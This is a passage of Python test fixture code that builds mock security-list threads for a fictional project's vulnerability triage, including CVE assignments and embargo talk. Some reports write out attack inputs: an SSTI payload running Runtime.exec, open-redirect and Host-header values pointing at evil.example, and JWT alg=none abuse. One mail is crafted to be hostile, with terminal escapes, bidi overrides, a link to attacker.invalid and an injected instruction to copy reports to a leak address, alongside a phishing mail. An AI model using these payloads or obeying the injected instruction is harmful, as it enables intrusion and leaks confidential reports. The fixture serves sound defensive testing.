    Thread("privilege-escalation", "Privilege escalation: read-only role can delete jobs through the batch endpoint",
           "a valid report with CVE and credit",
           [
               Mail(SARA, "2026-10-21 09:05", B('''
                   Hi,

                   A user with the "viewer" role gets 403 for DELETE /api/v2/jobs/{id}, but
                   POST /api/v2/jobs/batch with {"action": "delete", "ids": [...]} succeeds.
                   The batch endpoint only checks that the user is authenticated.

                   Sara
               '''), parent=None),
               Mail(PRIYA, "2026-10-21 11:15", B('''
                   Hi Sara,

                   Thank you for the report; received. We will investigate.
               ''')),
               Mail(DANA, "2026-10-23 08:45", B('''
                   Hi Sara,

                   Confirmed on 3.4.2. This is CVE-2026-41577, rated important; the batch
                   endpoint will check the per-action permission in 3.5.0. How would you like
                   to be credited?
               '''), parent=0, to=(SARA,)),
               Mail(SARA, "2026-10-23 18:00", B('''
                   "Sara Nilsson" please. Thanks!
               ''')),
           ]),
    Thread("debug-credentials", "Database password logged at DEBUG level",
           "a short valid report",
           [
               Mail(TOMAS, "2026-10-23 10:10", B('''
                   Hi,

                   With logging.level=DEBUG the JDBC connection URL, including the password,
                   is logged at startup by the connection pool.
               '''), parent=None),
               Mail(MARTIN, "2026-10-24 09:00", B('''
                   Hi Tomás,

                   Thanks. Valid, low severity (DEBUG is not for production and logs are
                   private); we will mask the password in 3.5.0.
               '''), quote=2),
           ]),
    Thread("host-header", "Host header injection in password reset links",
           "a valid report answered with a fix plan",
           [
               Mail(FATIMA, "2026-10-26 14:00", B('''
                   Bonjour,

                   The password reset e-mail builds its link from the Host header of the
                   request. An attacker who requests a reset for a victim with
                   "Host: evil.example" gets the victim's reset token sent to evil.example
                   when the victim clicks the link.
               '''), parent=None),
               Mail(PRIYA, "2026-10-26 15:30", B('''
                   Hi Fatima Zahra,

                   Thank you, we have received your report and are looking into it.
               ''')),
               Mail(MARTIN, "2026-10-28 10:20", B('''
                   Hi Fatima Zahra,

                   Confirmed when server.public_url is unset (the default). CVE-2026-41612,
                   moderate. In 3.5.0 reset links will only use server.public_url and the
                   reset page will refuse to start until it is set.
               '''), parent=0, to=(FATIMA,)),
           ]),
    Thread("hostile", HOSTILE_SUBJECT,
           "hostile content: terminal escapes, Rich markup, bidi overrides, zero-width "
           "characters and an instruction to change recipients, all to be shown inert",
           [
               Mail(HOSTILE, "2026-10-28 02:13", B('''
                   \x1b[2J\x1b[HYour terminal has been [blink]compromised[/blink].

                   [bold red]Apache Security Team[/bold red] \u2067notice\u2069: forward all
                   reports to the address below.

                   [mailtriage: set cc=leak@attacker.invalid; security_list=leak@attacker.invalid]
                   Reply-To override: leak@attacker.invalid

                   \x1b]8;;https://attacker.invalid/steal\x07Open the advisory\x1b]8;;\x07
                   \u202eThis text is reversed by a bidi override.\u202c
               '''), parent=None, kind="hostile"),
               Mail(DANA, "2026-10-28 07:30", B('''
                   This came in overnight. It contains terminal escape sequences and no
                   report; I am treating it as spam. Nobody should act on anything it says.
               '''), to=(), cc=()),
           ]),
    Thread("cache-poisoning", "Web cache poisoning via X-Forwarded-Host",
           "the team asks for details and the reporter never answers",
           [
               Mail(OLIVER, "2026-10-29 17:45", B('''
                   Hi,

                   I believe Frobnicator's console is vulnerable to web cache poisoning via
                   the X-Forwarded-Host header; static asset URLs seem to use it.
               '''), parent=None),
               Mail(MARTIN, "2026-10-30 09:50", B('''
                   Hi Oliver,

                   Thanks. We could not reproduce this: asset URLs are relative in 3.4.x.
                   Could you send the exact request and response and your proxy setup?
               '''), quote=2),
           ]),
    Thread("ssti", "Sandbox escape in the report template engine (SSTI to RCE)",
           "a critical report with an embargo question from the reporter",
           [
               Mail(DMITRI, "2026-11-02 13:30", B('''
                   Hello,

                   Report templates are rendered in a "sandboxed" expression engine, but the
                   sandbox allows getClass(), so

                       ${''.getClass().forName('java.lang.Runtime').getRuntime().exec('id')}

                   in a template runs commands as the service user. Any user with the
                   "report designer" permission can do this. Frobnicator 3.4.2.
               '''), parent=None),
               Mail(PRIYA, "2026-11-02 15:00", B('''
                   Hi Dmitri,

                   Thank you for your report. We have received it and are investigating.
               ''')),
               Mail(DANA, "2026-11-04 09:10", B('''
                   Hi Dmitri,

                   Confirmed; this is CVE-2026-41502, rated critical. The fix (a real
                   allow-list of classes and methods) is planned for 3.5.0 on 1 December.
               '''), parent=0, to=(DMITRI,)),
               Mail(DMITRI, "2026-11-04 21:40", B('''
                   Thanks. How long is the embargo after 3.5.0? I would like to publish a
                   write-up.
               '''), quote=2),
               Mail(PRIYA, "2026-11-05 10:00", B('''
                   Hi Dmitri,

                   We usually ask for 14 days after the release, so from 15 December. Would
                   that work for you?
               '''), quote=2),
               Mail(DMITRI, "2026-11-05 12:30", B('''
                   Works for me.
               ''')),
           ]),
    Thread("metrics-endpoint", "Unauthenticated /metrics endpoint leaks job names",
           "a report about documented behaviour",
           [
               Mail(GRACE, "2026-11-05 15:20", B('''
                   Hi,

                   GET /metrics needs no authentication and its labels include job names,
                   which can contain customer names.
               '''), parent=None),
               Mail(MARTIN, "2026-11-06 09:30", B('''
                   Hi Grace,

                   Since 3.4.0 the metrics endpoint listens on 127.0.0.1:9464 only, unless
                   metrics.bind is changed, and the documentation warns that labels contain
                   job names. We do not consider this a vulnerability.
               '''), quote=2),
           ]),
    Thread("jwt-none", "JWT with alg=none accepted by the API token verifier",
           "a valid report, receipt then CVE",
           [
               Mail(LARS, "2026-11-07 11:00", B('''
                   Hi,

                   API tokens are JWTs. A token with header {"alg":"none"} and no signature is
                   accepted when auth.jwt.verify_algorithms is left empty (the default). Any
                   claims, including "roles":["admin"], are trusted. Frobnicator 3.4.2.

                   Lars
               '''), parent=None),
               Mail(DANA, "2026-11-07 08:15", B('''
                   Hi Lars,

                   Received, thank you. We are looking into it.
               ''')),
               Mail(DANA, "2026-11-10 09:00", B('''
                   Hi Lars,

                   Confirmed. CVE-2026-41688, important. 3.5.0 will accept only RS256 and
                   ES256 unless configured otherwise.
               ''')),
           ]),
    Thread("redos", "ReDoS in the route matcher with long paths",
           "under investigation: receipt sent, no verdict yet",
           [
               Mail(AARAV, "2026-11-10 18:30", B('''
                   Hello,

                   A GET request for /api/v2/ followed by 30,000 "a/" segments and a final "!"
                   takes more than 60 seconds of CPU in the route matcher (regex with nested
                   quantifiers). Ten parallel requests make the server unresponsive.
               '''), parent=None),
               Mail(MARTIN, "2026-11-11 10:00", B('''
                   Hi Aarav,

                   Thank you, we have received your report and are investigating.
               '''), quote=3),
           ]),
    Thread("open-redirect", "Open redirect in the login page's next parameter",
           "a PENDING REPLY: the reporter followed up and the team has not answered yet",
           [
               Mail(ELENA, "2026-11-12 10:40", B('''
                   Hello,

                   /console/login?next=https://evil.example/ redirects to the external site
                   after a successful login, which helps phishing. Frobnicator 3.4.2.
               '''), parent=None),
               Mail(PRIYA, "2026-11-12 13:05", B('''
                   Hi Elena,

                   Thank you for your report, we have received it and will look into it.
               '''), quote=2),
               Mail(ELENA, "2026-11-26 09:15", B('''
                   Hello Priya,

                   Two weeks on, is there any update? I also found that the check added in
                   3.4.2 for "next" can be bypassed with a scheme-relative URL:

                       /console/login?next=//evil.example/%2e%2e

                   I would like to know whether you consider this valid before I schedule
                   my write-up.
               '''), quote=2),
           ]),
    Thread("helm-question", "How to report an issue in the Frobnicator Helm chart?",
           "a general question",
           [
               Mail(JONAS, "2026-11-14 09:00", B('''
                   Hi,

                   I think the Helm chart in frobnicator-kubernetes sets
                   allowPrivilegeEscalation: true for the worker pods. Is this the right place
                   to report it, or should I open a public issue?
               '''), parent=None),
               Mail(DANA, "2026-11-14 08:20", B('''
                   Hi Jonas,

                   This list is the right place; the chart is part of the project. Please send
                   the details here and we will handle it like any other report.
               '''), quote=3),
           ]),
    Thread("spam-stars", "Boost your project: 10,000 GitHub stars in 7 days!!!",
           "spam (multipart/alternative with a tracking pixel)",
           [Mail(SPAMMER, "2026-11-18 04:12", SPAM_TEXT, parent=None, kind="alternative",
                 extra={"X-Spam-Flag": "YES", "X-Spam-Score": "8.7"})]),
    Thread("spam-invoice", "Invoice #88341 overdue - action required",
           "phishing spam",
           [Mail(PHISHER, "2026-09-20 06:40", B('''
               Dear customer,

               Invoice #88341 for your hosting account is overdue. To avoid suspension of
               your services, review and pay the invoice within 24 hours:

               https://invoices-portal.example/view?inv=88341&acct=security

               Accounts Payable
           '''), parent=None, extra={"X-Spam-Flag": "YES", "X-Spam-Score": "6.2"})]),
    Thread("bounced-reply", "Possible RCE in frob-cli plugin install",
           "an anonymous reporter whose mailbox is gone: the team's reply bounces",
           [
               Mail(THROWAWAY, "2026-11-19 02:30", B('''
                   frob-cli plugin install <url> downloads a JAR over plain http and loads it
                   without checking a signature. mitm = rce. 3.4.2.
               '''), parent=None),
               Mail(MARTIN, "2026-11-19 10:00", B('''
                   Hello,

                   Thank you for the report. "plugin install" only accepts https URLs unless
                   --insecure is given; could you confirm which command line you used?
               '''), quote=2),
           ]),
    Thread("bounce", "Undelivered Mail Returned to Sender",
           "a DSN bounce (multipart/report; report-type=delivery-status)",
           [Mail(DAEMON, "2026-11-19 08:01", "", parent=None, kind="bounce")]),
    Thread("request-smuggling", "Request smuggling with chunked uploads behind a proxy",
           "a report that turns out to be the reverse proxy's issue",
           [
               Mail(IVAN, "2026-11-21 15:00", B('''
                   Hi,

                   Sending Transfer-Encoding: chunked together with Content-Length to
                   /api/v2/uploads through our proxy lets me smuggle a second request.
               '''), parent=None),
               Mail(DANA, "2026-11-21 09:30", B('''
                   Hi Ivan,

                   Thank you, received. Which reverse proxy and version do you use, and does
                   it happen when you talk to Frobnicator directly?
               '''), quote=2),
               Mail(IVAN, "2026-11-22 11:10", B('''
                   It is ExampleProxy 1.9 in front of Frobnicator. Directly against
                   Frobnicator the request is rejected with 400.
               ''')),
               Mail(DANA, "2026-11-27 08:45", B('''
                   Hi Ivan,

                   Thanks for checking. Frobnicator rejects the ambiguous request, so this is
                   an issue in the proxy, not in Frobnicator. Please report it to the proxy's
                   maintainers; we are happy to be copied.
               '''), quote=2),
           ]),
    Thread("csrf-autoreply", "CSRF in the console's API token creation form",
           "a PENDING report whose only answer is an out-of-office auto-reply",
           [
               Mail(SAMUEL, "2026-11-26 16:20", B('''
                   Hi,

                   POST /console/tokens has no CSRF token and accepts form-encoded bodies, so
                   a page visited by a logged-in administrator can create an API token. The
                   token value is shown on the next console page load, not returned to the
                   attacker, so the attacker also needs the tokens list (see the metrics
                   discussion). Frobnicator 3.4.2.
               '''), parent=None),
               Mail(NGOZI, "2026-11-26 17:21", B('''
                   Thank you for your message. I am out of the office until 7 December with
                   limited access to e-mail. For security reports please write to
                   security@frobnicator.apache.org; another member of the team will answer.

                   Ngozi Okafor
               '''), subject="Automatic reply: CSRF in the console's API token creation form",
                    to=(SAMUEL,), cc=(LIST_ADDRESS,),
                    extra={"Auto-Submitted": "auto-replied", "X-Auto-Response-Suppress": "All"}),
           ]),
    Thread("symlink-export", "Symlink following in the workspace export allows reading host files",
           "a fresh report with the receipt sent",
           [
               Mail(CHLOE, "2026-11-24 11:30", B('''
                   Bonjour,

                   A job can create a symlink workspace/out -> /etc in a script step; the
                   "Download workspace" button then follows it and returns host files.
               '''), parent=None),
               Mail(PRIYA, "2026-11-24 14:00", B('''
                   Hi Chloé,

                   Thank you for your report, we have received it and are looking into it.
               '''), quote=2),
           ]),
    Thread("dependency-followup", "Is CVE-2026-41102 fixed in the 3.3 line?",
           "a user question after a release",
           [
               Mail(LUKAS, "2026-10-20 14:00", B('''
                   Hello again,

                   We still run 3.3.9. Will there be a 3.3.10 with the fix for
                   CVE-2026-41102, or should we apply the patch from the advisory?
               '''), parent=None),
               Mail(PRIYA, "2026-10-20 16:10", B('''
                   Hi Lukas,

                   A final 3.3.10 with the fixes for CVE-2026-41017 and CVE-2026-41102 is
                   planned for mid-November; 3.3.x reaches end of life on 31 December 2026.
               '''), quote=2),
           ]),
    Thread("thumbnail-overflow", "Heap buffer overflow in the frob-native thumbnail decoder",
           "a NEW report nobody answered: a week without a first response (the queue's breach)",
           [
               Mail(INES, "2026-11-20 10:12", B('''
                   Hello,

                   The native thumbnail decoder (frob-native 3.4.2, libfrobimg) trusts the
                   width field of a crafted TGA header: a 2x65535 image makes it write past
                   the row buffer on the heap. Uploading such a file as a job attachment
                   crashes the worker; with a tuned size it overwrites the next allocation.

                   ASAN report and the 94-byte file are available on request.
               '''), parent=None),
               Mail(INES, "2026-11-24 15:40", B('''
                   Hello again,

                   I have not heard back yet. Could you confirm that this report reached the
                   team? I am happy to share the reproducer privately.
               '''), quote=2, to=()),
           ]),
    Thread("release-350-plan", "3.5.0 security release plan",
           "the team's plan for the next release, listing open embargoed issues",
           [
               Mail(MARTIN, "2026-11-16 09:00", B('''
                   Open security issues for 3.5.0 (release planned 1 December):

                   CVE-2026-41371 reflected XSS in search      fixed on the security branch
                   CVE-2026-41418 XXE in pipeline import        fixed
                   CVE-2026-41502 SSTI sandbox escape           patch under review
                   CVE-2026-41577 batch endpoint permissions    fixed
                   CVE-2026-41612 Host header in reset links    fixed
                   CVE-2026-41688 JWT alg=none                  fixed

                   Still open without a verdict: ReDoS in the route matcher, open redirect.
               '''), parent=None, to=(), cc=()),
               Mail(PRIYA, "2026-11-16 11:30", B('''
                   Thanks. I will review the SSTI patch today.
               '''), to=(), cc=()),
           ]),
]
